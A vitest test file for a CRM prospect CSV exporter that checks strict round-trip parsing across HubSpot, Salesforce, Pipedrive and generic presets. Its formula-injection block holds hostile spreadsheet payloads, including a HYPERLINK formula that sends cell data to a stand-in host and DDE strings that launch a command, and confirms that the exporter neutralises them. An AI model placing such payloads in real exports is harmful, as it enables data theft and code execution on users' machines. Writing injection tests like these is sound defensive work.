import { describe, it, expect } from 'vitest';
import { parse } from 'csv-parse/sync';
import { PRESETS } from '../../src/export/presets/index.js';
import { toCsv, neutralise } from '../../src/export/csv.js';
import { toExportRecord, emailFor } from '../../src/export/record.js';
import { changedSince } from '../../src/export/select.js';
import type { Contact } from '../../src/types.js';
import { prospect } from '../digest/sample.js';

const contact = (over: Partial<Contact> & Pick<Contact, 'id' | 'fullName'>): Contact => ({
  firstName: over.fullName.split(' ')[0]!,
  lastName: over.fullName.split(' ').slice(1).join(' '),
  nameKey: over.fullName.toLowerCase(),
  email: null,
  company: null,
  companyKey: null,
  position: null,
  connectedOn: '2024-03-02',
  url: null,
  source: 'linkedin',
  ...over,
});

const CONTACTS: Contact[] = [
  contact({ id: 7, fullName: 'Marcus Chen', email: 'marcus.chen@okta-alumni.example.com', company: 'Okta', companyKey: 'okta' }),
  contact({ id: 3, fullName: 'Dana Lee', email: 'dana@northwindanalytics.com', company: 'Northwind Analytics', companyKey: 'northwindanalytics' }),
  contact({ id: 11, fullName: 'Sofia Alvarez', nameKey: 'sofia alvarez', email: 'sofia@ferrumpay.co.uk', company: 'Ferrum Pay', companyKey: 'ferrumpay' }),
];

const PROSPECTS = [
  prospect({
    id: 'kestrel-security/marcus-chen', company: 'Kestrel Security', companyKey: 'kestrelsecurity', domain: 'kestrelsecurity.com', person: 'Marcus Chen Jr.', title: 'VP of Sales', score: 81.4, rank: 1,
    topTrigger: { event_id: 2, type: 'job_change', summary: 'Marcus Chen joined as VP of Sales (from Okta)', occurred_at: '2026-11-21T09:00:00.000Z', link: 'https://peoplemoves.example.com/kestrel-marcus-chen' },
    warmPath: { contact: 'Marcus Chen', contactId: 7, relation: 'person_is_connection', degree: 1, detail: 'Marcus Chen, 1st' },
    breakdown: [
      { rule: 'New sales leader', event_id: 2, source_link: null, points: 35, decay: 0.9, value: 31.5, why: '' },
      { rule: 'warmth: person is a connection', event_id: null, source_link: null, points: 40, decay: 1, value: 40, why: '' },
    ],
  }),
  prospect({
    id: 'ferrum-pay/sofia-alvarez', company: 'Ferrum Pay', companyKey: 'ferrumpay', domain: 'ferrumpay.co.uk', person: 'José María García-López', title: 'Chief Financial Officer, "Finance"', score: 64, rank: 2,
    topTrigger: { event_id: 4, type: 'funding', summary: 'raised £12M Series A led by Balderton Capital, with participation from "Seedcamp"', occurred_at: '2026-11-19T08:30:00.000Z', link: 'https://fintechnews.example.co.uk/ferrum-pay-series-a' },
  }),
  prospect({
    id: 'lumen-health/nguyen-thi-lan', company: 'Lumen Health', companyKey: 'lumenhealth', domain: 'lumenhealth.io', person: 'Nguyễn Thị Lan', title: 'Chief Marketing Officer', score: 58, rank: 3,
    topTrigger: { event_id: 5, type: 'job_change', summary: 'Nguyễn Thị Lan joined as Chief Marketing Officer\n(from Stripe)', occurred_at: '2026-11-18T12:00:00.000Z', link: 'https://lumenhealth.io/press/cmo' },
    warmPath: { contact: 'Tom Becker', contactId: 12, relation: 'former_colleague', degree: 1, detail: 'via Tom Becker (ex-Stripe), 1st' },
  }),
  prospect({
    id: 'orbital-freight', company: 'Orbital Freight GmbH', companyKey: 'orbitalfreight', domain: 'orbitalfreight.de', score: 44, rank: 4,
    topTrigger: { event_id: 6, type: 'funding', summary: 'raised €4M seed led by Point Nine', occurred_at: '2026-11-22T11:00:00.000Z', link: 'https://eustartups.example.com/orbital' },
  }),
  prospect({ id: 'madonna', company: 'Canopy HR', companyKey: 'canopyhr', domain: 'canopyhr.com', person: 'Madonna', title: 'Head of Marketing', score: 30, rank: 5 }),
];

// Each preset's file, parsed back strictly, must carry exactly these cells.
const EXPECTED: Record<string, string[][]> = {
  hubspot: [
    ['First Name', 'Last Name', 'Email', 'Job Title', 'Company Name', 'Company Domain Name', 'Website URL', 'Signal Score', 'Top Trigger', 'Trigger Date', 'Source URL', 'Warm Path'],
    ['Marcus', 'Chen Jr.', 'marcus.chen@okta-alumni.example.com', 'VP of Sales', 'Kestrel Security', 'kestrelsecurity.com', 'https://kestrelsecurity.com/', '81', 'Marcus Chen joined as VP of Sales (from Okta)', '2026-11-21', 'https://peoplemoves.example.com/kestrel-marcus-chen', 'Marcus Chen, 1st'],
    ['José María', 'García-López', '', 'Chief Financial Officer, "Finance"', 'Ferrum Pay', 'ferrumpay.co.uk', 'https://ferrumpay.co.uk/', '64', 'raised £12M Series A led by Balderton Capital, with participation from "Seedcamp"', '2026-11-19', 'https://fintechnews.example.co.uk/ferrum-pay-series-a', ''],
    ['Thị Lan', 'Nguyễn', '', 'Chief Marketing Officer', 'Lumen Health', 'lumenhealth.io', 'https://lumenhealth.io/', '58', 'Nguyễn Thị Lan joined as Chief Marketing Officer (from Stripe)', '2026-11-18', 'https://lumenhealth.io/press/cmo', 'via Tom Becker (ex-Stripe), 1st'],
    ['', '', '', '', 'Orbital Freight GmbH', 'orbitalfreight.de', 'https://orbitalfreight.de/', '44', 'raised €4M seed led by Point Nine', '2026-11-22', 'https://eustartups.example.com/orbital', ''],
    ['Madonna', '', '', 'Head of Marketing', 'Canopy HR', 'canopyhr.com', 'https://canopyhr.com/', '30', '', '', '', ''],
  ],
  salesforce: [
    ['First Name', 'Last Name', 'Company', 'Title', 'Email', 'Website', 'Lead Source', 'Rating', 'Description'],
    ['Marcus', 'Chen Jr.', 'Kestrel Security', 'VP of Sales', 'marcus.chen@okta-alumni.example.com', 'https://kestrelsecurity.com/', 'signals', 'Hot',
      'Signal score 81/100. Trigger: Marcus Chen joined as VP of Sales (from Okta) (2026-11-21). Source: https://peoplemoves.example.com/kestrel-marcus-chen Warm path: Marcus Chen, 1st. Why: New sales leader +32; warmth: person is a connection +40.'],
    ['José María', 'García-López', 'Ferrum Pay', 'Chief Financial Officer, "Finance"', '', 'https://ferrumpay.co.uk/', 'signals', 'Warm',
      'Signal score 64/100. Trigger: raised £12M Series A led by Balderton Capital, with participation from "Seedcamp" (2026-11-19). Source: https://fintechnews.example.co.uk/ferrum-pay-series-a'],
    ['Thị Lan', 'Nguyễn', 'Lumen Health', 'Chief Marketing Officer', '', 'https://lumenhealth.io/', 'signals', 'Warm',
      'Signal score 58/100. Trigger: Nguyễn Thị Lan joined as Chief Marketing Officer (from Stripe) (2026-11-18). Source: https://lumenhealth.io/press/cmo Warm path: via Tom Becker (ex-Stripe), 1st.'],
    ['', '[not provided]', 'Orbital Freight GmbH', '', '', 'https://orbitalfreight.de/', 'signals', 'Warm',
      'Signal score 44/100. Trigger: raised €4M seed led by Point Nine (2026-11-22). Source: https://eustartups.example.com/orbital'],
    ['', 'Madonna', 'Canopy HR', 'Head of Marketing', '', 'https://canopyhr.com/', 'signals', 'Cold', 'Signal score 30/100.'],
  ],
  pipedrive: [
    ['Lead - Title', 'Person - Name', 'Person - Email', 'Person - Job title', 'Organization - Name', 'Note - Content'],
    ['Kestrel Security: Marcus Chen joined as VP of Sales (from Okta)', 'Marcus Chen Jr.', 'marcus.chen@okta-alumni.example.com', 'VP of Sales', 'Kestrel Security',
      'Signal score 81/100. Trigger: Marcus Chen joined as VP of Sales (from Okta) (2026-11-21). Source: https://peoplemoves.example.com/kestrel-marcus-chen Warm path: Marcus Chen, 1st. Why: New sales leader +32; warmth: person is a connection +40. Website: https://kestrelsecurity.com/'],
    ['Ferrum Pay: raised £12M Series A led by Balderton Capital, with participation from "Seedcamp"', 'José María García-López', '', 'Chief Financial Officer, "Finance"', 'Ferrum Pay',
      'Signal score 64/100. Trigger: raised £12M Series A led by Balderton Capital, with participation from "Seedcamp" (2026-11-19). Source: https://fintechnews.example.co.uk/ferrum-pay-series-a Website: https://ferrumpay.co.uk/'],
    ['Lumen Health: Nguyễn Thị Lan joined as Chief Marketing Officer (from Stripe)', 'Nguyễn Thị Lan', '', 'Chief Marketing Officer', 'Lumen Health',
      'Signal score 58/100. Trigger: Nguyễn Thị Lan joined as Chief Marketing Officer (from Stripe) (2026-11-18). Source: https://lumenhealth.io/press/cmo Warm path: via Tom Becker (ex-Stripe), 1st. Website: https://lumenhealth.io/'],
    ['Orbital Freight GmbH: raised €4M seed led by Point Nine', '', '', '', 'Orbital Freight GmbH',
      'Signal score 44/100. Trigger: raised €4M seed led by Point Nine (2026-11-22). Source: https://eustartups.example.com/orbital Website: https://orbitalfreight.de/'],
    ['Canopy HR', 'Madonna', '', 'Head of Marketing', 'Canopy HR', 'Signal score 30/100. Website: https://canopyhr.com/'],
  ],
  generic: [
    ['prospect_id', 'rank', 'score', 'company', 'domain', 'website', 'person', 'first_name', 'last_name', 'title', 'email', 'top_trigger', 'trigger_type', 'trigger_date', 'source_url', 'warm_path', 'warm_contact', 'score_reasons', 'first_seen_at', 'updated_at'],
    ['kestrel-security/marcus-chen', '1', '81.4', 'Kestrel Security', 'kestrelsecurity.com', 'https://kestrelsecurity.com/', 'Marcus Chen Jr.', 'Marcus', 'Chen Jr.', 'VP of Sales', 'marcus.chen@okta-alumni.example.com', 'Marcus Chen joined as VP of Sales (from Okta)', 'job_change', '2026-11-21', 'https://peoplemoves.example.com/kestrel-marcus-chen', 'Marcus Chen, 1st', 'Marcus Chen', 'New sales leader +32; warmth: person is a connection +40', '2026-11-23T07:00:00.000Z', '2026-11-23T07:00:00.000Z'],
    ['ferrum-pay/sofia-alvarez', '2', '64', 'Ferrum Pay', 'ferrumpay.co.uk', 'https://ferrumpay.co.uk/', 'José María García-López', 'José María', 'García-López', 'Chief Financial Officer, "Finance"', '', 'raised £12M Series A led by Balderton Capital, with participation from "Seedcamp"', 'funding', '2026-11-19', 'https://fintechnews.example.co.uk/ferrum-pay-series-a', '', '', '', '2026-11-23T07:00:00.000Z', '2026-11-23T07:00:00.000Z'],
    ['lumen-health/nguyen-thi-lan', '3', '58', 'Lumen Health', 'lumenhealth.io', 'https://lumenhealth.io/', 'Nguyễn Thị Lan', 'Thị Lan', 'Nguyễn', 'Chief Marketing Officer', '', 'Nguyễn Thị Lan joined as Chief Marketing Officer (from Stripe)', 'job_change', '2026-11-18', 'https://lumenhealth.io/press/cmo', 'via Tom Becker (ex-Stripe), 1st', 'Tom Becker', '', '2026-11-23T07:00:00.000Z', '2026-11-23T07:00:00.000Z'],
    ['orbital-freight', '4', '44', 'Orbital Freight GmbH', 'orbitalfreight.de', 'https://orbitalfreight.de/', '', '', '', '', '', 'raised €4M seed led by Point Nine', 'funding', '2026-11-22', 'https://eustartups.example.com/orbital', '', '', '', '2026-11-23T07:00:00.000Z', '2026-11-23T07:00:00.000Z'],
    ['madonna', '5', '30', 'Canopy HR', 'canopyhr.com', 'https://canopyhr.com/', 'Madonna', 'Madonna', '', 'Head of Marketing', '', '', '', '', '', '', '', '', '2026-11-23T07:00:00.000Z', '2026-11-23T07:00:00.000Z'],
  ],
};

const strict = (csv: string) =>
  parse(csv, { relax_quotes: false, relax_column_count: false, skip_empty_lines: false, bom: false, record_delimiter: '\r\n' }) as string[][];

describe('CSV export round trip (strict RFC 4180 parse)', () => {
  const records = PROSPECTS.map((p) => toExportRecord(p, CONTACTS));

  for (const [name, expected] of Object.entries(EXPECTED)) {
    it(`${name}: every column of every row survives`, () => {
      const csv = toCsv(PRESETS.get(name)!, records);
      expect(strict(csv)).toEqual(expected);
      // CRLF only, never a bare LF or CR between records.
      expect(csv.endsWith('\r\n')).toBe(true);
      expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
      // Quotes are doubled inside quoted fields.
      if (name !== 'hubspot') return;
      expect(csv).toContain('"Chief Financial Officer, ""Finance"""');
    });
  }

  it('every preset has a fixed, distinct column order', () => {
    for (const p of PRESETS.values()) {
      const headers = p.columns.map((c) => c.header);
      expect(new Set(headers).size).toBe(headers.length);
      expect(strict(toCsv(p, []))).toEqual([headers]);
    }
    expect([...PRESETS.keys()]).toEqual(['hubspot', 'salesforce', 'pipedrive', 'generic']);
  });

  it('--bom puts a UTF-8 byte order mark first and nothing else changes', () => {
    const p = PRESETS.get('hubspot')!;
    const plain = toCsv(p, records);
    const withBom = toCsv(p, records, { bom: true });
    expect(Buffer.from(withBom, 'utf8').subarray(0, 3).toString('hex')).toBe('efbbbf');
    expect(withBom.slice(1)).toBe(plain);
  });
});

describe('formula injection', () => {
  const hostile = prospect({
    id: 'evil', company: '=HYPERLINK("https://evil.example/?"&A1,"Click")', companyKey: 'evil', domain: '=1+1', person: '+Marcus @Chen', title: '-2+3',
    score: 50, rank: 1,
    topTrigger: { event_id: 1, type: 'funding', summary: '@SUM(1+1)*cmd|" /C calc"!A0', occurred_at: '2026-11-20T00:00:00.000Z', link: '=cmd|" /C calc"!A0' },
    warmPath: { contact: 'x', contactId: 99, relation: 'connection_at_company', degree: 1, detail: '\t=1+2' },
  });
  const records = [toExportRecord(hostile, [])];

  for (const name of PRESETS.keys()) {
    it(`${name}: no cell starts with = + - @ tab or CR`, () => {
      const rows = strict(toCsv(PRESETS.get(name)!, records));
      for (const cell of rows[1]!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });
  }

  it('keeps the text, prefixed with a quote, and drops invalid URLs and domains', () => {
    const rows = strict(toCsv(PRESETS.get('hubspot')!, records));
    const row = Object.fromEntries(rows[0]!.map((h, i) => [h, rows[1]![i]]));
    expect(row['Company Name']).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Click")`);
    expect(row['First Name']).toBe("'+Marcus");
    expect(row['Job Title']).toBe("'-2+3");
    expect(row['Top Trigger']).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(row['Warm Path']).toBe("'=1+2");
    expect(row['Company Domain Name']).toBe('');
    expect(row['Source URL']).toBe('');
  });

  it('neutralise leaves ordinary text alone', () => {
    expect(neutralise('Northwind Analytics')).toBe('Northwind Analytics');
    expect(neutralise('=1+1')).toBe("'=1+1");
    expect(neutralise('\t=1')).toBe("'\t=1");
    expect(neutralise('\r=1')).toBe("'\r=1");
  });
});

describe('emailFor', () => {
  it('uses the connection the warm path names when the person is the connection', () => {
    expect(emailFor(PROSPECTS[0]!, CONTACTS)).toBe('marcus.chen@okta-alumni.example.com');
  });
  it('matches a contact by name at the same company', () => {
    const p = prospect({ id: 'ferrum-pay/sofia-alvarez', company: 'Ferrum Pay', companyKey: 'ferrumpay', person: 'Sofia Alvarez' });
    expect(emailFor(p, CONTACTS)).toBe('sofia@ferrumpay.co.uk');
  });
  it('never guesses: same name at another company, or a warm path through someone else, gives nothing', () => {
    const elsewhere = prospect({ id: 'x', company: 'Lumen Health', companyKey: 'lumenhealth', person: 'Sofia Alvarez' });
    expect(emailFor(elsewhere, CONTACTS)).toBe('');
    const viaDana = prospect({
      id: 'n', company: 'Northwind Analytics', companyKey: 'northwindanalytics', person: 'Priya Raman',
      warmPath: { contact: 'Dana Lee', contactId: 3, relation: 'connection_at_company', degree: 1, detail: 'via Dana Lee, 1st' },
    });
    expect(emailFor(viaDana, CONTACTS)).toBe('');
  });
});

describe('changedSince', () => {
  const old = prospect({ id: 'a', company: 'A', firstSeenAt: '2026-11-01T00:00:00.000Z', updatedAt: '2026-11-02T00:00:00.000Z' });
  const changed = prospect({ id: 'b', company: 'B', firstSeenAt: '2026-11-01T00:00:00.000Z', updatedAt: '2026-11-20T00:00:00.000Z' });
  const fresh = prospect({ id: 'c', company: 'C', firstSeenAt: '2026-11-21T00:00:00.000Z', updatedAt: '2026-11-21T00:00:00.000Z' });
  it('keeps new and changed prospects after the mark, all without a mark', () => {
    expect(changedSince([old, changed, fresh], '2026-11-10T00:00:00.000Z').map((p) => p.id)).toEqual(['b', 'c']);
    expect(changedSince([old, changed, fresh], null)).toHaveLength(3);
    expect(changedSince([old, changed, fresh], '2026-11-21T00:00:00.000Z')).toHaveLength(0);
  });
});
